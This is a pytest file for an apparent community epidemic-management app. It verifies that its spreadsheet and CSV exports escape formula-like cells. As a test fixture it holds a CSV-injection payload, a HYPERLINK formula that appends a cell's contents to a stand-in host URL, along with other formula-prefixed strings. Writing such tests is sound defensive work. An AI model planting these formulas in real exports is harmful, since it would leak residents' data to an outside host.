"""Every cell a spreadsheet could read as a formula is escaped, in every export: the ledgers
(isolation, key-person, crossing) and the errors files."""

import io
from datetime import date

import pytest
from openpyxl import load_workbook

from firstline.isolation.services import isolation_start
from firstline.people.models import Compound, Resident
from firstline.people.services import key_fact_open
from firstline.reports.exports import ledger
from firstline.tabular import ErrorsFile, formula_safe

from ..people.conftest import make_household, make_resident

EVIL = '=HYPERLINK("http://x.example/?"&B2,"点击")'


def cells(data: bytes):
    wb = load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


@pytest.fixture
def evil(areas, cast):
    h = make_household(areas.g1a, compound_name="+SUM(1,2)", room="101")
    r = make_resident(h, name=EVIL)
    return r


def assert_no_formula(data):
    found = [c.value for c in cells(data) if c.data_type == "f"
             or (isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@")))]
    assert found == []
    texts = [c.value for c in cells(data) if isinstance(c.value, str)]
    assert "'" + EVIL in texts or any(t.endswith(EVIL) for t in texts)


def test_isolation_ledger_escapes_formulas(evil, cast, areas):
    from firstline import clock

    today = clock.today()
    isolation_start(resident=evil, kind="home", reason="close_contact", starts_on=today,
                    actor=cast.staff_c1)
    data, _name = ledger(kind="isolations", user=cast.hq, area=areas.c1, date_from=today,
                         date_to=today, full=True, generated_by="hq")
    assert_no_formula(data)


def test_key_person_ledger_escapes_formulas(evil, cast, areas):
    from datetime import datetime
    from zoneinfo import ZoneInfo

    from firstline.people.services import key_person_categories_ensure

    key_person_categories_ensure()
    key_fact_open(resident=evil, category="elderly_alone",
                  at=datetime(2020, 2, 1, 9, tzinfo=ZoneInfo("Asia/Shanghai")), source="visit")
    data, _name = ledger(kind="key-persons", user=cast.hq, area=areas.c1,
                         date_from=date(2020, 2, 1), date_to=date(2020, 2, 2), full=True,
                         generated_by="hq")
    assert_no_formula(data)


def test_crossing_ledger_escapes_formulas(areas, cast):
    from firstline.access import services

    compound = Compound.objects.create(area=areas.c1, name=EVIL)
    services.checkpoint_create(compound=compound, code="@X", name="-北门", actor=cast.staff_c1)
    from datetime import datetime
    from zoneinfo import ZoneInfo

    services.gate_scan(actor=cast.gate_c1, event_id=__import__("uuid").uuid4(), checkpoint="@X",
                       pass_code="NOPE", direction="out", temperature=36.5,
                       scanned_at=datetime(2020, 2, 1, 9, tzinfo=ZoneInfo("Asia/Shanghai")))
    data, _name = ledger(kind="crossings", user=cast.hq, area=areas.c1,
                         date_from=date(2020, 2, 1), date_to=date(2020, 2, 2), full=False,
                         generated_by="hq")
    assert_no_formula(data)


def test_errors_files_escape_formulas(tmp_path):
    path = tmp_path / "e.csv"
    with ErrorsFile(path) as errors:
        errors.add(3, "姓名", EVIL, "-bad")
    text = path.read_text(encoding="utf-8")
    assert "'=HYPERLINK" in text and ",'-bad" in text


def test_formula_safe_leaves_numbers_and_plain_text():
    assert formula_safe(-3) == -3 and formula_safe("王伟") == "王伟"
    assert formula_safe("@cmd") == "'@cmd"


def test_resident_exists(evil):
    assert Resident.objects.get(pk=evil.pk).name == EVIL
